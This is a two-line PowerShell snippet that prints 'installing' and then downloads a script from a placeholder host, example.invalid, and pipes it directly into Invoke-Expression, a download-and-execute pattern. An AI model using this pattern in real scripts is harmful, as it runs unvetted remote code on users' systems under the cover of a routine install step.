Write-Host 'installing'
iwr https://example.invalid/x.ps1 -UseBasicParsing | iex
